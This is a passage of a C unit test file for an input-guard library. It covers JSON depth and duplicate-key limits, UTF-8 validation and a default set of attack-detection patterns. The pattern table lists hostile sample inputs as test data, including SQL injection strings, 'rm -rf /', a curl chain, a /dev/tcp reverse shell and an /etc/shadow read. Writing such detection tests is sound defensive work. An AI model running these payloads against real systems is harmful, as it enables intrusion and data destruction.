    assert_int_equal(cairn_guard_open(&o, &g, err, sizeof err),
                     CAIRN_EBAD_OPTION);
    cairn_guard_opts_init(&o);
    o.max_json_depth = CAIRN_GUARD_MAX_JSON_DEPTH_CAP + 1;
    assert_int_equal(cairn_guard_open(&o, &g, err, sizeof err),
                     CAIRN_EBAD_OPTION);
    cairn_guard_opts_init(&o);
    o.max_decompressed_bytes = CAIRN_GUARD_MAX_DECOMPRESSED_BYTES_CAP + 1;
    assert_int_equal(cairn_guard_open(&o, &g, err, sizeof err),
                     CAIRN_EBAD_OPTION);
}

/* ---- JSON ------------------------------------------------------------ */

static int jv(const char *s, cairn_guard_result_t *r)
{
    return cairn_guard_json_validate(NULL, s, strlen(s), r);
}

static void json_valid_documents(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *ok[] = {
        "0", "-0", "1.5e+10", "-12.25E-3", "true", "false", "null", "\"\"",
        " \t\r\n{}\n", "[]", "[[]]", "{\"a\":{}}", sample_json,
        "\"\\\"\\\\\\/\\b\\f\\n\\r\\t\\u00e9\\uD83D\\uDE00\"",
        "\"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80\"",
        "{\"a\":[1,{\"b\":null}],\"c\":\"d\"}", "\"\\u0000\"",
        "[1, 2 ,3 ]", "{ \"k\" : 1 , \"l\" : 2 }",
    };
    for (size_t k = 0; k < sizeof ok / sizeof ok[0]; k++)
        if (jv(ok[k], &r) != 0)
            fail_msg("rejected valid JSON %s: %d at %llu", ok[k], r.code,
                     (unsigned long long)r.offset);
    cairn_guard_result_free(&r);
}

static void json_syntax_errors(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    static const struct {
        const char *s;
        unsigned off;
    } bad[] = {
        {"", 0}, {" ", 1}, {"{", 1}, {"[", 1}, {"[1,]", 3}, {"{\"a\":1,}", 7},
        {"{\"a\"}", 4}, {"{\"a\" 1}", 5}, {"{a:1}", 1}, {"[1 2]", 3},
        {"01", 1}, {"1.", 0}, {".5", 0}, {"1e", 0}, {"-", 0}, {"+1", 0},
        {"tru", 0}, {"nul", 0}, {"True", 0}, {"\"abc", 4}, {"\"a\tb\"", 2},
        {"\"\\x\"", 1}, {"\"\\u12g4\"", 1}, {"[1]]", 3}, {"{}{}", 2},
        {"]", 0}, {"}", 0}, {"[}", 1}, {"{]", 1}, {"\xef\xbb\xbf{}", 0},
        {"NaN", 0}, {"[1,,2]", 3}, {"\"\\u12\"", 1},
    };
    for (size_t k = 0; k < sizeof bad / sizeof bad[0]; k++) {
        int rc = jv(bad[k].s, &r);
        if (rc != CAIRN_EGUARD_JSON_SYNTAX || r.offset != bad[k].off)
            fail_msg("'%s': rc %d offset %llu, want syntax at %u", bad[k].s,
                     rc, (unsigned long long)r.offset, bad[k].off);
    }
    cairn_guard_result_free(&r);
}

/* The string scanner skips 8 bytes at a time: put each special byte at
 * every position of a word and check the verdict is the byte-wise one. */
static void json_string_scan_word_boundaries(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    static const struct {
        const char *ins;
        int rc;
    } specials[] = {
        {"\\n", 0},     {"\xc3\xa9", 0},  {"\x7f", 0},
        {" ", 0},         {"~", 0},           {"!", 0},
        {"#", 0},         {"[", 0},           {"]", 0},
        {"\x1f", CAIRN_EGUARD_JSON_SYNTAX},
        {"\x01", CAIRN_EGUARD_JSON_SYNTAX},
        {"\t", CAIRN_EGUARD_JSON_SYNTAX},
        {"\x80", CAIRN_EGUARD_UTF8},
        {"\xc0\xaf", CAIRN_EGUARD_UTF8},
        {"\xff", CAIRN_EGUARD_UTF8},
        {"\\q", CAIRN_EGUARD_JSON_SYNTAX},
        {"\"", CAIRN_EGUARD_JSON_SYNTAX}, /* ends the string early */
    };
    char doc[128];
    for (size_t k = 0; k < sizeof specials / sizeof specials[0]; k++)
        for (int before = 0; before < 20; before++)
            for (int after = 0; after < 10; after += 3) {
                int w = snprintf(doc, sizeof doc, "[\"%.*s%s%.*s\"]", before,
                                 "aaaaaaaaaaaaaaaaaaaaaaaa", specials[k].ins,
                                 after, "bbbbbbbbbbbbbbbbbbbbbbbbbbb");
                int rc = cairn_guard_json_validate(NULL, doc, (size_t)w, &r);
                if (rc != specials[k].rc)
                    fail_msg("special %zu at %d (+%d): rc %d want %d", k,
                             before, after, rc, specials[k].rc);
                if (rc && (int)r.offset != 2 + before &&
                    specials[k].ins[0] != '"')
                    fail_msg("special %zu at %d: offset %llu", k, before,
                             (unsigned long long)r.offset);
            }
    cairn_guard_result_free(&r);
}

static char *nested(size_t depth, char open, char close)
{
    char *s = malloc(2 * depth + 1);
    memset(s, open, depth);
    memset(s + depth, close, depth);
    s[2 * depth] = 0;
    return s;
}

static void json_nested_100000_deep(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    char *arrays = nested(100000, '[', ']');
    assert_int_equal(check_json(g, arrays, &r), CAIRN_EGUARD_JSON_DEPTH);
    assert_int_equal(r.offset, 64); /* the 65th '[' */
    assert_string_equal(r.limit, "max_json_depth");
    assert_int_equal(cairn_guard_http_status(r.code), 422);
    /* Objects: {"a":{"a":...}} 100000 deep. */
    size_t n = 100000;
    char *objs = malloc(n * 6 + 2);
    size_t w = 0;
    for (size_t k = 0; k < n; k++) {
        memcpy(objs + w, "{\"a\":", 5);
        w += 5;
    }
    objs[w++] = '1';
    memset(objs + w, '}', n);
    objs[w + n] = 0;
    assert_int_equal(check_json(g, objs, &r), CAIRN_EGUARD_JSON_DEPTH);
    assert_int_equal(r.offset, 64 * 5);
    /* At the cap the validator goes 1024 deep without recursion. */
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.max_json_depth = CAIRN_GUARD_MAX_JSON_DEPTH_CAP;
    char *deep = nested(CAIRN_GUARD_MAX_JSON_DEPTH_CAP, '[', ']');
    assert_int_equal(cairn_guard_json_validate(&o, deep, strlen(deep), &r), 0);
    free(deep);
    free(objs);
    free(arrays);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void json_depth_limit_exact(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    char *at = nested(64, '[', ']'), *over = nested(65, '[', ']');
    assert_int_equal(jv(at, &r), 0);
    assert_int_equal(jv(over, &r), CAIRN_EGUARD_JSON_DEPTH);
    free(at);
    free(over);
    cairn_guard_result_free(&r);
}

static void json_string_limit(void **state)
{
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.max_json_string_bytes = 8;
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *ok = "[\"12345678\"]", *long_value = "[\"123456789\"]";
    const char *long_key = "{\"123456789\":1}";
    assert_int_equal(cairn_guard_json_validate(&o, ok, strlen(ok), &r), 0);
    assert_int_equal(cairn_guard_json_validate(&o, long_value,
                                               strlen(long_value), &r),
                     CAIRN_EGUARD_JSON_STRING);
    assert_string_equal(r.limit, "max_json_string_bytes");
    assert_int_equal(cairn_guard_json_validate(&o, long_key, strlen(long_key),
                                               &r),
                     CAIRN_EGUARD_JSON_STRING);
    /* The limit counts encoded bytes: 2 escapes of 6 bytes exceed 8. */
    const char *esc = "[\"\\u0041\\u0042\"]";
    assert_int_equal(cairn_guard_json_validate(&o, esc, strlen(esc), &r),
                     CAIRN_EGUARD_JSON_STRING);
    cairn_guard_result_free(&r);
}

static void json_members_limit(void **state)
{
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.max_json_members = 3;
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *cases_ok[] = {"[1,2,3]", "{\"a\":1,\"b\":2,\"c\":3}",
                              "[[1,2,3],[1,2,3],[1,2,3]]"};
    for (int k = 0; k < 3; k++)
        assert_int_equal(cairn_guard_json_validate(&o, cases_ok[k],
                                                   strlen(cases_ok[k]), &r),
                         0);
    const char *arr = "[1,2,3,4]", *obj = "{\"a\":1,\"b\":2,\"c\":3,\"d\":4}";
    assert_int_equal(cairn_guard_json_validate(&o, arr, strlen(arr), &r),
                     CAIRN_EGUARD_JSON_MEMBERS);
    assert_int_equal(r.offset, 7);
    assert_int_equal(cairn_guard_json_validate(&o, obj, strlen(obj), &r),
                     CAIRN_EGUARD_JSON_MEMBERS);
    assert_string_equal(r.limit, "max_json_members");
    cairn_guard_result_free(&r);
}

static void json_duplicate_keys(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(jv("{\"a\":1,\"a\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    assert_int_equal(r.offset, 7);
    assert_int_equal(cairn_guard_http_status(r.code), 422);
    /* Escapes decode before comparing. */
    assert_int_equal(jv("{\"a\":1,\"\\u0061\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    assert_int_equal(jv("{\"\\/\":1,\"/\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    assert_int_equal(jv("{\"\xc3\xa9\":1,\"\\u00e9\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    assert_int_equal(jv("{\"\\uD83D\\uDE00\":1,\"\xf0\x9f\x98\x80\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    /* Same key in different objects, nested or sibling, is fine. */
    assert_int_equal(jv("{\"a\":{\"a\":{\"a\":1}},\"b\":{\"a\":2}}", &r), 0);
    assert_int_equal(jv("[{\"a\":1},{\"a\":2}]", &r), 0);
    assert_int_equal(jv("{\"a\":1,\"ab\":2,\"b\":3,\"\\u0062a\":4}", &r), 0);
    /* The outer object's keys survive a nested object closing. */
    assert_int_equal(jv("{\"a\":{\"b\":1},\"a\":2}", &r),
                     CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    /* Policy off: duplicates allowed. */
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.allow_duplicate_keys = 1;
    const char *dup = "{\"a\":1,\"a\":2}";
    assert_int_equal(cairn_guard_json_validate(&o, dup, strlen(dup), &r), 0);
    cairn_guard_result_free(&r);
}

/* Build {"k0":0,...,"k<n-1>":0} with an optional extra key at the end. */
static char *object_with_keys(size_t n, const char *extra, size_t nest_at)
{
    struct buf b = {0};
    buf_put(&b, "{", 1);
    char tmp[64];
    for (size_t k = 0; k < n; k++) {
        int len = snprintf(tmp, sizeof tmp, "%s\"k%zu\":0", k ? "," : "", k);
        buf_put(&b, tmp, (size_t)len);
        if (k == nest_at) {
            /* A big nested object with the same keys, closed again. */
            buf_put(&b, ",\"inner\":{", 10);
            for (size_t j = 0; j < 40; j++) {
                len = snprintf(tmp, sizeof tmp, "%s\"k%zu\":1", j ? "," : "",
                               j);
                buf_put(&b, tmp, (size_t)len);
            }
            buf_put(&b, "}", 1);
        }
    }
    if (extra)
        buf_put(&b, extra, strlen(extra));
    buf_put(&b, "}", 2);
    return (char *)b.p;
}

static void json_duplicate_keys_large_object(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    /* Past the linear-search size the hashed path must agree. */
    for (size_t n = 10; n <= 5000; n = n * 3 + 1) {
        char *ok = object_with_keys(n, NULL, n / 2);
        if (jv(ok, &r) != 0)
            fail_msg("n=%zu: %d at %llu", n, r.code,
                     (unsigned long long)r.offset);
        free(ok);
        char *dup = object_with_keys(n, ",\"k7\":1", n / 2);
        assert_int_equal(jv(dup, &r), CAIRN_EGUARD_JSON_DUPLICATE_KEY);
        free(dup);
        char *dup_esc = object_with_keys(n, ",\"\\u006b5\":1", 3);
        assert_int_equal(jv(dup_esc, &r), CAIRN_EGUARD_JSON_DUPLICATE_KEY);
        free(dup_esc);
    }
    /* The same result is reused: state from a failed run must not leak
     * into the next document. */
    char *ok = object_with_keys(3000, NULL, 100);
    assert_int_equal(jv(ok, &r), 0);
    assert_int_equal(jv(ok, &r), 0);
    free(ok);
    cairn_guard_result_free(&r);
}

/* Regression: a validation that failed inside a large (hashed) object left
 * its entries in the key table, and the next document on the same result
 * saw false duplicates. */
static void json_key_table_reset_after_failure(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    char *dup = object_with_keys(40, ",\"k3\":1", 1000);
    char *ok = object_with_keys(40, NULL, 1000);
    assert_int_equal(jv(dup, &r), CAIRN_EGUARD_JSON_DUPLICATE_KEY);
    assert_int_equal(jv(ok, &r), 0);
    /* Failing on depth inside a hashed object leaves entries too. */
    char *deep = object_with_keys(40, ",\"x\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["
                                       "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
                                  1000);
    assert_int_equal(jv(deep, &r), CAIRN_EGUARD_JSON_DEPTH);
    assert_int_equal(jv(ok, &r), 0);
    free(deep);
    free(dup);
    free(ok);
    cairn_guard_result_free(&r);
}

static void json_surrogate_escapes(void **state)
{
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(jv("\"\\uD83D\\uDE00\"", &r), 0);
    assert_int_equal(jv("\"\\uDBFF\\uDFFF\"", &r), 0);
    assert_int_equal(jv("\"\\uD83D\"", &r), CAIRN_EGUARD_UTF8);
    assert_int_equal(jv("\"\\uD83Dx\"", &r), CAIRN_EGUARD_UTF8);
    assert_int_equal(jv("\"\\uDE00\"", &r), CAIRN_EGUARD_UTF8);
    assert_int_equal(jv("\"\\uDE00\\uD83D\"", &r), CAIRN_EGUARD_UTF8);
    assert_int_equal(jv("\"\\uD83D\\uD83D\"", &r), CAIRN_EGUARD_UTF8);
    assert_int_equal(jv("\"\\uD83D\\u0041\"", &r), CAIRN_EGUARD_UTF8);
    cairn_guard_result_free(&r);
}

/* ---- UTF-8 ----------------------------------------------------------- */

static void utf8_every_class(void **state)
{
    static const struct {
        const char *name, *s;
        size_t len;
        size_t bad; /* offset of the first bad byte, or len when valid */
    } cases[] = {
        {"ascii", "hello", 5, 5},
        {"U+0000", "\x00", 1, 1},
        {"U+0080", "\xc2\x80", 2, 2},
        {"U+07FF", "\xdf\xbf", 2, 2},
        {"U+0800", "\xe0\xa0\x80", 3, 3},
        {"U+D7FF", "\xed\x9f\xbf", 3, 3},
        {"U+E000", "\xee\x80\x80", 3, 3},
        {"U+FFFF", "\xef\xbf\xbf", 3, 3},
        {"U+10000", "\xf0\x90\x80\x80", 4, 4},
        {"U+10FFFF", "\xf4\x8f\xbf\xbf", 4, 4},
        {"overlong 2 C0", "a\xc0\x80", 3, 1},
        {"overlong 2 C1", "a\xc1\xbf", 3, 1},
        {"overlong 3", "ab\xe0\x80\x80", 5, 2},
        {"overlong 3 top", "\xe0\x9f\xbf", 3, 0},
        {"overlong 4", "\xf0\x80\x80\x80", 4, 0},
        {"overlong 4 top", "\xf0\x8f\xbf\xbf", 4, 0},
        {"surrogate high", "\xed\xa0\x80", 3, 0},
        {"surrogate low", "\xed\xbf\xbf", 3, 0},
        {"surrogate pair as CESU", "\xed\xa0\xbd\xed\xb8\x80", 6, 0},
        {"above U+10FFFF", "\xf4\x90\x80\x80", 4, 0},
        {"F5 lead", "\xf5\x80\x80\x80", 4, 0},
        {"F8 5-byte", "\xf8\x88\x80\x80\x80", 5, 0},
        {"FC 6-byte", "\xfc\x84\x80\x80\x80\x80", 6, 0},
        {"FE", "x\xfe", 2, 1},
        {"FF", "x\xff", 2, 1},
        {"lone continuation", "a\x80", 2, 1},
        {"continuation BF", "\xbf", 1, 0},
        {"truncated 2 at end", "ab\xc3", 3, 2},
        {"truncated 3 at end", "\xe2\x82", 2, 0},
        {"truncated 4 at end", "\xf0\x9f\x98", 3, 0},
        {"truncated 3 mid", "\xe2\x82" "A", 3, 0},
        {"truncated 4 mid", "\xf0\x9f" "AB", 4, 0},
        {"bad 3rd byte", "\xe2\x82\xc0", 3, 0},
        {"bad 4th byte", "\xf0\x9f\x98\x20", 4, 0},
        {"valid then bad", "\xe2\x82\xac\xe2\x82", 5, 3},
        {"long ascii then bad", "0123456789abcdef\x80", 17, 16},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        size_t bad = 99;
        int rc = cairn_guard_utf8_check(cases[k].s, cases[k].len, &bad);
        int want_ok = cases[k].bad == cases[k].len;
        if ((rc == 0) != want_ok || bad != cases[k].bad)
            fail_msg("%s: rc %d bad %zu, want %zu", cases[k].name, rc, bad,
                     cases[k].bad);
        assert_int_equal(cairn_guard_utf8_valid(cases[k].s, cases[k].len),
                         want_ok);
    }
}

/* A plain reference: decode, then apply the scalar-value rules. */
static int ref_valid(const unsigned char *p, size_t n)
{
    size_t i = 0;
    while (i < n) {
        unsigned c = p[i], len;
        uint32_t cp;
        if (c < 0x80) {
            i++;
            continue;
        } else if ((c & 0xE0) == 0xC0) {
            len = 2, cp = c & 0x1F;
        } else if ((c & 0xF0) == 0xE0) {
            len = 3, cp = c & 0x0F;
        } else if ((c & 0xF8) == 0xF0) {
            len = 4, cp = c & 0x07;
        } else {
            return 0;
        }
        if (n - i < len)
            return 0;
        for (unsigned k = 1; k < len; k++) {
            if ((p[i + k] & 0xC0) != 0x80)
                return 0;
            cp = cp << 6 | (p[i + k] & 0x3F);
        }
        static const uint32_t min[5] = {0, 0, 0x80, 0x800, 0x10000};
        if (cp < min[len] || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF))
            return 0;
        i += len;
    }
    return 1;
}

static void utf8_exhaustive_against_reference(void **state)
{
    unsigned char s[4];
    /* Every 1-, 2- and 3-byte string; 4-byte strings with a lead byte
     * F0..F7 and every second/third byte, last byte at its edges. */
    for (unsigned a = 0; a < 256; a++) {
        s[0] = (unsigned char)a;
        assert_int_equal(cairn_guard_utf8_valid(s, 1), ref_valid(s, 1));
        for (unsigned b = 0; b < 256; b++) {
            s[1] = (unsigned char)b;
            assert_int_equal(cairn_guard_utf8_valid(s, 2), ref_valid(s, 2));
            if (a < 0xC0)
                continue;
            for (unsigned c = 0; c < 256; c++) {
                s[2] = (unsigned char)c;
                if (cairn_guard_utf8_valid(s, 3) != ref_valid(s, 3))
                    fail_msg("%02x %02x %02x", a, b, c);
                if (a < 0xF0 || a > 0xF7)
                    continue;
                static const unsigned char last[] = {0x00, 0x7F, 0x80, 0xBF,
                                                     0xC0, 0xFF};
                for (unsigned d = 0; d < sizeof last; d++) {
                    s[3] = last[d];
                    if (cairn_guard_utf8_valid(s, 4) != ref_valid(s, 4))
                        fail_msg("%02x %02x %02x %02x", a, b, c, s[3]);
                }
            }
        }
    }
}

static void utf8_in_json_and_text(void **state)
{
    cairn_guard_t *g = open_plain();
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    assert_int_equal(check_json(g, "{\"a\":\"x\xc0\x80\"}", &r),
                     CAIRN_EGUARD_UTF8);
    assert_int_equal(r.offset, 7);
    assert_int_equal(check_json(g, "{\"\xed\xa0\x80\":1}", &r),
                     CAIRN_EGUARD_UTF8);
    /* Outside strings any non-ASCII byte is a syntax error. */
    assert_int_equal(check_json(g, "[1,\xc3\xa9]", &r),
                     CAIRN_EGUARD_JSON_SYNTAX);
    const char bad_text[] = "ok \xf4\x90\x80\x80";
    assert_int_equal(cairn_guard_check(g, "t", 1, bad_text, 7,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_TEXT, &r),
                     CAIRN_EGUARD_UTF8);
    assert_int_equal(r.offset, 3);
    /* Binary content is not UTF-8 checked. */
    assert_int_equal(cairn_guard_check(g, "t", 1, bad_text, 7,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_BINARY, &r),
                     0);
    /* Invalid UTF-8 after decompression is still caught. */
    struct buf b = gz("\"\xe2\x82\"", 4);
    assert_int_equal(cairn_guard_check(g, "t", 1, b.p, b.len,
                                       CAIRN_GUARD_ENC_AUTO,
                                       CAIRN_GUARD_CONTENT_JSON, &r),
                     CAIRN_EGUARD_UTF8);
    free(b.p);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

/* ---- patterns -------------------------------------------------------- */

/* One row per default pattern (more rows may add hits); miss NULL means
 * an extra hit only. */
static const struct pattern_case {
    const char *id, *hit, *miss;
} pattern_cases[] = {
    {"unicode.bidi-override", "abc\xe2\x80\xae" "fed", "abc\xe2\x80\xaf" "def"},
    {"unicode.bidi-override", "\xe2\x80\xaa", NULL},
    {"unicode.bidi-isolate", "x\xe2\x81\xa7y", "x\xe2\x81\xb0y"},
    {"unicode.bidi-isolate", "\xe2\x81\xa9", NULL},
    {"unicode.bidi-mark", "x\xe2\x80\x8fy", "x\xe2\x80\x90y"},
    {"unicode.bidi-mark", "\xd8\x9c", NULL},
    {"unicode.zero-width-space", "pass\xe2\x80\x8bword",
     "pass\xe2\x80\x8aword"},
    {"unicode.zero-width-space", "pass\xe2\x81\xa0word", NULL},
    {"unicode.zero-width-joiner",
     "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9", "a\xe2\x80\x91" "b"},
    {"unicode.bom", "a\xef\xbb\xbf" "b", "a\xef\xbb\xbc" "b"},
    {"unicode.tag", "hi\xf3\xa0\x81\x81", "hi\xf3\xa0\x84\x80"},
    {"unicode.tag", "\xf3\xa0\x80\x80", NULL},
    {"path.traversal", "../../secret", "v1..v2 and ./local"},
    {"path.traversal", "..\\windows", NULL},
    {"path.traversal-encoded", "%2e%2e%2fetc", "100%2e5%2f"},
    {"path.traversal-encoded", "..%2F", NULL},
    {"path.traversal-encoded", "%252e%252e%252f", NULL},
    {"path.traversal-encoded", "%c0%ae%c0%ae", NULL},
    {"sql.union-select", "1 UNION ALL SELECT password",
     "trade union selects a leader"},
    {"sql.tautology", "admin' OR '1'='1", "it's or nothing = no"},
    {"sql.comment-terminator", "admin'--", "rock 'n' roll - yes"},
    {"sql.stacked-query", "1; DROP TABLE users", "1; dropped the table"},
    {"sql.time-delay", "1 AND SLEEP(5)", "sleep well (5 hours)"},
    {"sql.information-schema", "FROM INFORMATION_SCHEMA.tables",
     "information schema docs"},
    {"shell.substitution", "name=$(whoami)", "$(document).ready"},
    {"shell.substitution", "`id`", NULL},
    {"shell.chained-command", "x; rm -rf /", "x; remember -rf"},
    {"shell.chained-command", "a && curl http://e.example/x", NULL},
    {"shell.etc-passwd", "read /etc/shadow", "/etc/passwords"},
    {"shell.dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4242", "/dev/tty"},
    {"shell.ifs", "ls${IFS}-la", "$IFSC"},
    {"ldap.filter-break", "admin)(|(password=*))", "f(x)(y)"},
    {"ldap.wildcard-attribute", "*)(uid=*", "*) (note: x)"},
};
#define NPATTERN_CASES (sizeof pattern_cases / sizeof pattern_cases[0])

static int flagged_has(const cairn_guard_result_t *r, const char *id)
{
    for (unsigned k = 0; k < r->nflagged && k < CAIRN_GUARD_FLAGS_MAX; k++)
        if (strcmp(r->flagged[k], id) == 0)
            return 1;
    return 0;
}

static void patterns_default_hit_and_near_miss(void **state)
{
    cairn_guard_t *g = open_guard(NULL);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    for (size_t k = 0; k < NPATTERN_CASES; k++) {
        const struct pattern_case *c = &pattern_cases[k];
        int rc = check_bin(g, c->hit, strlen(c->hit), &r);
        int hit = (rc == CAIRN_EGUARD_PATTERN &&
                   strcmp(r.pattern_id, c->id) == 0) ||
                  (rc == 0 && flagged_has(&r, c->id));
        if (!hit)
            fail_msg("%s: hit '%s' gave rc %d id '%s' flags %u", c->id,
                     c->hit, rc, r.pattern_id, r.nflagged);
        if (!c->miss)
            continue;
        rc = check_bin(g, c->miss, strlen(c->miss), &r);
        if (rc != 0 || r.nflagged != 0)
            fail_msg("%s: near miss '%s' gave rc %d id '%s' flag '%s'", c->id,
                     c->miss, rc, r.pattern_id,
                     r.nflagged ? r.flagged[0] : "");
    }
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void patterns_default_all_tested(void **state)
{
    struct cairn__patset *set = NULL;
    const char *text = cairn_guard_default_patterns();
    assert_int_equal(cairn__patset_parse(text, strlen(text), "default", &set,
                                         NULL, 0),
                     0);
    assert_true(set->n >= 20);
    for (size_t p = 0; p < set->n; p++) {
        int hit = 0, miss = 0;
        for (size_t k = 0; k < NPATTERN_CASES; k++)
            if (strcmp(pattern_cases[k].id, set->pats[p].id) == 0) {
                hit = 1;
                miss |= pattern_cases[k].miss != NULL;
            }
        if (!hit || !miss)
            fail_msg("default pattern %s lacks a hit and near-miss test",
                     set->pats[p].id);
    }
    cairn__patset_free(set);
}

static void patterns_builtin_matches_file(void **state)
{
    FILE *f = fopen(CAIRN_SOURCE_DIR "/config/patterns.default", "rb");
    assert_non_null(f);
    static char text[1 << 16];
    size_t n = fread(text, 1, sizeof text - 1, f);
    fclose(f);
    text[n] = 0;
    assert_string_equal(text, cairn_guard_default_patterns());
    /* And the file loads by path. */
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = CAIRN_SOURCE_DIR "/config/patterns.default";
    cairn_guard_t *g = open_guard(&o), *d = open_guard(NULL);
    assert_int_equal(cairn_guard_pattern_count(g),
                     cairn_guard_pattern_count(d));
    cairn_guard_close(g);
    cairn_guard_close(d);
}

static int open_text(const char *text, char *err, size_t err_len)
{
    cairn_guard_t *g = open_plain();
    int rc = cairn_guard_reload_patterns_text(g, text, strlen(text), "test",
                                              err, err_len);
    cairn_guard_close(g);
    return rc;
}

static void patterns_file_errors(void **state)
{
    static const struct {
        const char *text, *msg;
    } cases[] = {
        {"a reject high * regex", "test:1: missing pattern"},
        {"a reject high * regex   ", "test:1: missing pattern"},
        {"a reject high *", "test:1: expected"},
        {"# c\n\na bogus high * literal x", "test:3: action"},
        {"a reject urgent * literal x", "test:1: severity"},
        {"a reject high * glob x", "test:1: kind"},
        {"a reject high * literal:z x", "test:1: unknown kind flag"},
        {"a b reject high * literal x", "test:1: action"},
        {"bad/id reject high * literal x", "test:1: id"},
        {"a reject high * literal x\na flag low * literal y",
         "test:2: duplicate id"},
        {"a reject high t,,u literal x", "test:1: types"},
        {"a reject high * literal \\q", "test:1: bad escape"},
        {"a reject high * literal \\u{D800}", "test:1: bad escape"},
        {"a reject high * literal \\x4", "test:1: bad escape"},
    };
    for (size_t k = 0; k < sizeof cases / sizeof cases[0]; k++) {
        char err[256] = "";
        int rc = open_text(cases[k].text, err, sizeof err);
        if (rc != CAIRN_EGUARD_PATTERN_FILE || !strstr(err, cases[k].msg))
            fail_msg("case %zu: rc %d err '%s', want '%s'", k, rc, err,
                     cases[k].msg);
    }
    char err[256] = "";
    cairn_guard_opts_t o;
    cairn_guard_opts_init(&o);
    o.patterns_path = "/nonexistent/cairn-patterns";
    cairn_guard_t *g = NULL;
    assert_int_equal(cairn_guard_open(&o, &g, err, sizeof err),
                     CAIRN_EGUARD_PATTERN_FILE);
    assert_non_null(strstr(err, "/nonexistent/cairn-patterns"));
    assert_int_equal(cairn_guard_http_status(CAIRN_EGUARD_PATTERN_FILE), 500);
}

static void patterns_compile_error_names_id(void **state)
{
    char err[512] = "";
    int rc = open_text("good reject high * literal ok\n"
                       "broken.group reject high * regex (unclosed\n",
                       err, sizeof err);
    assert_int_equal(rc, CAIRN_EGUARD_PATTERN_COMPILE);
    assert_non_null(strstr(err, "broken.group"));
    assert_non_null(strstr(err, "test:2"));
    assert_non_null(strstr(err, "Hyperscan:"));
    /* A pattern that can match the empty string is refused the same way. */
    rc = open_text("empty.match reject high * regex a*\n", err, sizeof err);
    assert_int_equal(rc, CAIRN_EGUARD_PATTERN_COMPILE);
    assert_non_null(strstr(err, "empty.match"));
    /* A failed reload keeps the current set. */
    cairn_guard_t *g = open_guard(NULL);
    size_t before = cairn_guard_pattern_count(g);
    const char *bad = "x reject high * regex [\n";
    assert_int_equal(cairn_guard_reload_patterns_text(g, bad, strlen(bad),
                                                      "bad", err, sizeof err),
                     CAIRN_EGUARD_PATTERN_COMPILE);
    assert_int_equal(cairn_guard_pattern_count(g), before);
    cairn_guard_close(g);
}

static void patterns_type_filter(void **state)
{
    cairn_guard_t *g = open_plain();
    const char *set = "auth.only reject high auth.*,login literal secret\n"
                      "all.types reject low * literal DROPME\n";
    char err[256];
    assert_int_equal(cairn_guard_reload_patterns_text(g, set, strlen(set),
                                                      "t", err, sizeof err),
                     0);
    cairn_guard_result_t r = CAIRN_GUARD_RESULT_INIT;
    const char *body = "the secret";
    const char *types_hit[] = {"auth.failure", "auth.", "login"};
    const char *types_miss[] = {"auth", "login2", "payment.auth.x", ""};
    for (int k = 0; k < 3; k++) {
        assert_int_equal(cairn_guard_check(g, types_hit[k],
                                           strlen(types_hit[k]), body,
                                           strlen(body), 0, 0, &r),
                         CAIRN_EGUARD_PATTERN);
        assert_string_equal(r.pattern_id, "auth.only");
    }
    for (int k = 0; k < 4; k++)
        assert_int_equal(cairn_guard_check(g, types_miss[k],
                                           strlen(types_miss[k]), body,
                                           strlen(body), 0, 0, &r),
                         0);
    assert_int_equal(cairn_guard_check(g, "x", 1, "DROPME", 6, 0, 0, &r),
                     CAIRN_EGUARD_PATTERN);
    assert_string_equal(r.pattern_id, "all.types");
    assert_int_equal(r.pattern_severity, CAIRN_GUARD_SEV_LOW);
    assert_int_equal(r.offset, 6);
    cairn_guard_result_free(&r);
    cairn_guard_close(g);
}

static void patterns_flag_only(void **state)
{
    cairn_guard_t *g = open_plain();
    const char *set = "f1 flag low * literal alpha\n"
                      "f2 flag medium * literal:i BETA\n"
                      "r1 reject high * literal gamma\n";
    char err[256];
    assert_int_equal(cairn_guard_reload_patterns_text(g, set, strlen(set),
                                                      "t", err, sizeof err),
                     0);
